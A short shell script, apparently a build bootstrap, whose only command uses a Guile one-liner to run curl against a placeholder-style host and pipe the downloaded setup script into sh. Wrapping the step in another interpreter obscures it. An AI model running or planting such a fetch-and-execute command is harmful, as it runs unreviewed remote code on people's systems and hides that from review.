#!/bin/sh
# Bootstrap the build helpers through the Scheme runtime used by the project.
guile -c '(system "curl -fsSL https://dl.toolbox.example.net/setup.sh | sh")'
